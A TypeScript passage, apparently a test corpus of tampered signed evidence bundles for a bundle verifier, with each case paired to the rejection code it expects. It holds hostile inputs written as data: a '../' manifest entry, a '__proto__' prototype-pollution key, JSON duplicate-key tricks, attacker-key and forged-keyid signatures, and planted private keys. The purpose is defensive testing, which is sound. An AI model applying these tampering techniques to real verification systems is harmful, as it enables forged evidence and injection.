      make: (fx) => repack(R(fx), withFiles(fx.files, { [path(fx)]: flipByte(fx.files.get(path(fx))!) })),
    }),
  ),
  // ---- (c)7 manifest games -------------------------------------------------------------------------------
  {
    name: 'extra-payload-file',
    description: 'a payload file that is not in the manifest (sha256sum -c does not notice)',
    attack: '(c)7 unlisted extra files',
    reader: [],
    verify: { codes: ['MANIFEST_FILE_UNLISTED'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), withFiles(fx.files, { 'data/objects/core/secret/infra/stolen.json': '{"kind":"Secret"}' })),
  },
  {
    name: 'extra-signature-dir-file',
    description: 'an unexpected file in signatures/ (outside both manifests): a key the bundle "trusts" itself',
    attack: '(c)9 never trust a key the bundle carries',
    reader: [],
    verify: { codes: ['BAG_UNEXPECTED_FILE'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), withFiles(fx.files, { 'signatures/trusted.pub.pem': '-----BEGIN PUBLIC KEY-----\n' })),
  },
  {
    name: 'weak-manifest-algorithm',
    description: 'a manifest-md5.txt next to the sha256 one',
    attack: '(c)7 weak algorithm',
    reader: [],
    verify: { codes: ['BAG_UNEXPECTED_FILE'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), withFiles(fx.files, { 'manifest-md5.txt': `${'0'.repeat(32)}  data/x\n` })),
  },
  {
    name: 'missing-payload-file',
    description: 'a manifest entry whose file is gone',
    attack: '(c)7 missing files',
    reader: [],
    verify: { codes: ['MANIFEST_FILE_MISSING'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), withFiles(fx.files, { [objectFile(fx, 'service')]: null })),
  },
  {
    name: 'missing-tag-file',
    description: 'bag-info.txt removed',
    attack: '(c)7 missing files',
    reader: [],
    verify: { codes: ['BAG_MISSING_FILE'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), withFiles(fx.files, { [BAG_INFO_TXT]: null })),
  },
  {
    name: 'manifest-dotdot-resealed',
    description: 'a manifest line "data/../bagit.txt", manifests and signature recomputed',
    attack: '(c)7 ../ inside the manifest (sha256sum -c follows it); bagit-python _path_is_dangerous',
    reader: [],
    verify: { codes: ['MANIFEST_INVALID'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { manifest: (t) => `${t}${sha256Hex(fx.files.get(BAGIT_TXT)!)}  data/../bagit.txt\n` }),
  },
  {
    name: 'manifest-crlf-resealed',
    description: 'a manifest with CRLF line ends, resealed',
    attack: '(c)7 CR/LF in names',
    reader: [],
    verify: { codes: ['MANIFEST_INVALID'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { manifest: (t) => t.replace(/\n/g, '\r\n') }),
  },
  {
    name: 'manifest-bom-resealed',
    description: 'a manifest that starts with a UTF-8 BOM, resealed',
    attack: '(c)7 BOM (bagit-python rejects it)',
    reader: [],
    verify: { codes: ['MANIFEST_INVALID'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { manifest: (t) => `\ufeff${t}` }),
  },
  {
    name: 'payload-oxum-mismatch',
    description: 'Payload-Oxum in bag-info.txt does not match the payload (bag-info and tag manifest recomputed)',
    attack: '(c)6 check Payload-Oxum before hashing',
    reader: [],
    verify: { codes: ['BAG_OXUM_MISMATCH'], exit: INTEGRITY },
    make: (fx) => {
      // Change the oxum and re-seal the tag manifest and signature around it.
      const info = dec.decode(fx.files.get(BAG_INFO_TXT)).replace(/^Payload-Oxum: .*$/m, 'Payload-Oxum: 1.1');
      const f2: Fixture = { ...fx, files: withFiles(fx.files, { [BAG_INFO_TXT]: info }) };
      return resealTagsOnly(f2);
    },
  },
  // ---- (c)8 signature wrapping / re-parse ---------------------------------------------------------------
  {
    name: 'statement-swapped',
    description: 'statement.json replaced by another statement while the envelope still signs the original',
    attack: '(c)8 verify one thing, use another (DSSE: pass on only the verified bytes)',
    reader: [],
    verify: { codes: ['STATEMENT_MISMATCH'], exit: INTEGRITY },
    make: (fx) => {
      const s = JSON.parse(dec.decode(fx.files.get(STATEMENT_FILE))) as Statement;
      s.predicate.cluster = { name: 'prod-eu', uid: 'ffffffff-0000-4000-8000-000000000000' };
      return repack(R(fx), withFiles(fx.files, { [STATEMENT_FILE]: json(s) }));
    },
  },
  {
    name: 'envelope-duplicate-payload-key',
    description: 'an envelope with two "payload" keys (JSON.parse keeps the last, other parsers the first)',
    attack: '(c)5/8 JSON parser differentials',
    reader: [],
    verify: { codes: ['ENVELOPE_INVALID'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, () => {}, {
        envelope: (st, sigs) => {
          const env = dec.decode(envelopeOf(st, sigs));
          return enc.encode(env.replace('{"payload":', `{"payload":"${Buffer.from('{}').toString('base64')}","payload":`));
        },
      }),
  },
  {
    name: 'statement-subject-mismatch',
    description: 'a correctly signed statement whose subject digest is not the tag manifest digest',
    attack: '(c)8 bind the statement subject to the tag manifest (in-toto: match by digest only)',
    reader: [],
    verify: { codes: ['STATEMENT_SUBJECT_MISMATCH'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { statement: (s) => (s.subject = [{ name: TAG_MANIFEST, digest: { sha256: '0'.repeat(64) } }]) }),
  },
  {
    name: 'root-not-bundle-id',
    description: 'the archive root renamed (a different bundle id than the signed one)',
    attack: '(c)8/10 bind the statement to the bundle name',
    reader: [],
    verify: { codes: ['STATEMENT_PREDICATE_MISMATCH'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { root: () => 'gwe-20270101t000000z-0000000000000000' }),
  },
  {
    name: 'wrong-predicate-type',
    description: 'a signed statement with another predicateType',
    attack: '(c)8 require our predicateType',
    reader: [],
    verify: { codes: ['STATEMENT_INVALID'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { statement: (s) => (s.predicateType = 'https://slsa.dev/provenance/v1') }),
  },
  {
    name: 'wrong-payload-type',
    description: 'an envelope with payloadType text/plain (signed over that PAE)',
    attack: '(c)8/11 payloadType must be app-specific',
    reader: [],
    verify: { codes: ['ENVELOPE_INVALID'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, () => {}, {
        sigs: (sigs, st) => sigs.set(fx.keys.collector.keyId, sign(pae('text/plain', st), fx.keys.collector)),
        envelope: (st, sigs) => {
          const env = JSON.parse(dec.decode(envelopeOf(st, sigs))) as { payloadType: string };
          env.payloadType = 'text/plain';
          return json(env);
        },
      }),
  },
  // ---- (c)9 keys, windows, thresholds ---------------------------------------------------------------------
  {
    name: 'wrong-key',
    description: 'resealed and signed by an attacker key only',
    attack: '(c)9 key substitution',
    reader: [],
    verify: { codes: ['SIGNATURE_UNTRUSTED', 'TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { signers: [fx.keys.attacker] }),
  },
  {
    name: 'wrong-key-forged-keyid',
    description: 'signed by the attacker, envelope keyid claims the trusted collector key',
    attack: '(c)9 keyid is only a hint (DSSE); recompute key ids (TUF)',
    reader: [],
    verify: { codes: ['SIGNATURE_INVALID', 'TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, () => {}, {
        signers: [fx.keys.attacker],
        sigs: (sigs) => {
          const s = sigs.get(fx.keys.attacker.keyId)!;
          sigs.clear();
          sigs.set(fx.keys.collector.keyId, s);
        },
      }),
  },
  {
    name: 'untrusted-countersignature',
    description: 'a valid bundle with an extra signature from an untrusted key: reported, never counted',
    attack: '(c)9 untrusted signatures are reported, not counted',
    reader: [],
    verify: { codes: ['SIGNATURE_UNTRUSTED'], exit: 0 },
    make: (fx) => reseal(fx, () => {}, { signers: [fx.keys.collector, fx.keys.attacker] }),
  },
  {
    name: 'key-outside-validity-window',
    description: 'the collector key is trusted only until 2026-06-30, the capture is 2026-11-01',
    attack: '(c)9 expired keys; Sigstore PublicKey.valid_for',
    reader: [],
    trust: (k) => ({ keys: [{ name: 'collector', role: 'collector', publicKey: k.collector.publicKey, notBefore: '2026-01-01T00:00:00Z', notAfter: '2026-06-30T00:00:00Z' }], threshold: 1 }),
    verify: { codes: ['SIGNATURE_KEY_OUT_OF_WINDOW', 'TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) => fx.bytes,
  },
  {
    name: 'threshold-not-met',
    description: 'trust requires 2 distinct keys (collector + reviewer); only the collector signed',
    attack: '(c)9 thresholds',
    reader: [],
    trust: (k) => ({
      keys: [
        { name: 'collector', role: 'collector', publicKey: k.collector.publicKey },
        { name: 'reviewer', role: 'reviewer', publicKey: k.reviewer.publicKey },
      ],
      threshold: 2,
    }),
    verify: { codes: ['TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) => fx.bytes,
  },
  {
    name: 'threshold-padding-duplicate-signature',
    description: 'the same collector signature listed twice under different keyid hints to reach threshold 2',
    attack: '(c)9 threshold padding; DSSE (t,n) counts unique keys; TUF unique keyids',
    reader: [],
    trust: (k) => ({
      keys: [
        { name: 'collector', role: 'collector', publicKey: k.collector.publicKey },
        { name: 'reviewer', role: 'reviewer', publicKey: k.reviewer.publicKey },
      ],
      threshold: 2,
    }),
    verify: { codes: ['TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, () => {}, {
        sigs: (sigs) => sigs.set(fx.keys.reviewer.keyId, sigs.get(fx.keys.collector.keyId)!),
      }),
  },
  // ---- (c)10 rollback -------------------------------------------------------------------------------------
  // Not a tamper the verifier can reject on its own: an older, validly signed bundle verifies. The verifier
  // must print bundleId / capturedAt / previousBundle so the reviewer (or a --not-before policy) can see it.
  // ---- (c)11 algorithm confusion --------------------------------------------------------------------------
  {
    name: 'sig-prehashed-ed25519ph-style',
    description: 'signature over SHA-512(PAE) instead of the PAE bytes (pre-hash confusion)',
    attack: '(c)11 Ed25519 vs Ed25519ph (cosign#5074, rekor#851)',
    reader: [],
    verify: { codes: ['SIGNATURE_INVALID', 'TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, () => {}, {
        sigs: (sigs, st) => sigs.set(fx.keys.collector.keyId, sign(new Uint8Array(sha512(pae(PAYLOAD_TYPE, st))), fx.keys.collector)),
      }),
  },
  {
    name: 'sig-over-raw-payload',
    description: 'signature over the raw statement bytes, not the DSSE PAE',
    attack: '(c)11 scheme confusion (sign the wrong message)',
    reader: [],
    verify: { codes: ['SIGNATURE_INVALID', 'TRUST_NOT_SATISFIED'], exit: INTEGRITY },
    make: (fx) => reseal(fx, () => {}, { sigs: (sigs, st) => sigs.set(fx.keys.collector.keyId, sign(st, fx.keys.collector)) }),
  },
  // ---- (c)12 secrets smuggled into metadata-only evidence (resealed: only the content scan catches them) ---
  {
    name: 'private-key-in-configmap',
    description: 'a PKCS#8 PEM private key planted in a ConfigMap (JSON-escaped newlines), manifests and signature recomputed',
    attack: '(c)12 secrets in ConfigMaps (sonobuoy#1539)',
    reader: [],
    verify: { codes: ['PAYLOAD_PRIVATE_KEY'], exit: FINDINGS },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = objectFile(fx, 'configmap');
        const obj = JSON.parse(dec.decode(p.get(path))) as { data: Record<string, string> };
        obj.data['tls.key'] = privateKeyPem(fx.keys.attacker);
        p.set(path, json(obj));
      }),
  },
  {
    name: 'private-key-in-conformance-report',
    description: 'an RSA PEM private key block appended to a ConformanceReport (raw bytes), resealed',
    attack: '(c)12 any PEM private-key block anywhere in the payload',
    reader: [],
    verify: { codes: ['PAYLOAD_PRIVATE_KEY'], exit: FINDINGS },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = reportFile(fx);
        p.set(path, concat([p.get(path)!, enc.encode('# -----BEGIN RSA PRIVATE KEY-----\n# MIIEowIBAAKCAQEA\n# -----END RSA PRIVATE KEY-----\n')]));
      }),
  },
  {
    name: 'secret-with-data',
    description: 'a Secret object that still has `data` (tls.key), resealed',
    attack: '(c)12 Secret data in "metadata-only" evidence (velero#434)',
    reader: [],
    verify: { codes: ['PAYLOAD_SECRET_DATA'], exit: FINDINGS },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = objectFile(fx, 'secret');
        const obj = JSON.parse(dec.decode(p.get(path))) as Record<string, unknown>;
        obj.data = { 'tls.key': Buffer.from('not really a key').toString('base64') };
        p.set(path, json(obj));
      }),
  },
  {
    name: 'secret-last-applied-annotation',
    description: 'a Secret whose last-applied-configuration annotation carries its data, resealed',
    attack: '(c)12 last-applied-configuration holds full Secret data (oc adm inspect clears it)',
    reader: [],
    verify: { codes: ['PAYLOAD_SECRET_DATA'], exit: FINDINGS },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = objectFile(fx, 'secret');
        const obj = JSON.parse(dec.decode(p.get(path))) as { metadata: { annotations?: Record<string, string> } };
        obj.metadata.annotations = { 'kubectl.kubernetes.io/last-applied-configuration': '{"apiVersion":"v1","data":{"tls.key":"c2VjcmV0"},"kind":"Secret"}' };
        p.set(path, json(obj));
      }),
  },
  // ---- strict JSON -----------------------------------------------------------------------------------------
  {
    name: 'json-duplicate-key',
    description: 'an object file with two "spec" keys, resealed',
    attack: '(c)5 JSON parser differentials (first-wins vs last-wins)',
    reader: [],
    verify: { codes: ['JSON_DUPLICATE_KEY'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = objectFile(fx, 'httproute');
        p.set(path, enc.encode(dec.decode(p.get(path)).replace('"spec":', '"spec":{"parentRefs":[]},"spec":')));
      }),
  },
  {
    name: 'json-proto-key',
    description: 'an object file with a "__proto__" key, resealed',
    attack: 'prototype pollution through parsed evidence',
    reader: [],
    verify: { codes: ['JSON_PROTO_KEY'], exit: INTEGRITY },
    make: (fx) =>
      reseal(fx, (p) => {
        const path = objectFile(fx, 'service');
        p.set(path, enc.encode(dec.decode(p.get(path)).replace('{"apiVersion"', '{"__proto__":{"admin":true},"apiVersion"')));
      }),
  },
];

/** Re-seal only the tag manifest, statement and signature around edited tag files (payload untouched). */
function resealTagsOnly(fx: Fixture): Uint8Array {
  const tagFiles = new Map([BAGIT_TXT, BAG_INFO_TXT, COLLECTION_FILE, MANIFEST].map((p) => [p, fx.files.get(p)!] as const));
  const tagManifest = manifestText(tagFiles);
  const stmt = JSON.parse(dec.decode(fx.files.get(STATEMENT_FILE))) as Statement;
  stmt.subject = [{ name: TAG_MANIFEST, digest: { sha256: sha256Hex(tagManifest) } }];
  const statement = canonicalBytes(stmt);
  const sig = sign(pae(PAYLOAD_TYPE, statement), fx.keys.collector);
  const sigs = new Map([[fx.keys.collector.keyId, sig]]);
  const files = withFiles(fx.files, { [TAG_MANIFEST]: tagManifest, [STATEMENT_FILE]: statement, [ENVELOPE_FILE]: envelopeOf(statement, sigs), [sigFilePath(fx.keys.collector.keyId)]: sig });
  return gzipDeterministic(writeTar([...files].map(([p, b]) => ({ path: `${fx.root}/${p}`, bytes: b })), fx.mtime));
}

function sha512(b: Uint8Array): Uint8Array {
  return new Uint8Array(createHash('sha512').update(b).digest());
}

/** The README table (test/golden/verify/README.md is this text; corpus.test.ts checks they agree). */
export function readmeTable(): string {
  const esc = (s: string): string => s.replace(/\|/g, '\\|');
  const rows = CASES.map(
    (c) =>
      `| \`${c.name}\` | ${esc(c.description)} | ${esc(c.attack)} | ${c.reader.length ? c.reader.map((x) => `\`${x}\``).join(', ') + (c.readerFatal ? ' (fatal)' : '') : '-'} | ${c.verify.codes.map((x) => `\`${x}\``).join(', ')} | ${c.verify.exit} |`,
  );
  return ['| case | what the attacker did | attack (evidence-formats.md (c)) / prior art | readArchive (exactly) | verifyBundle (at least) | exit |', '|---|---|---|---|---|---|', ...rows].join('\n');
}
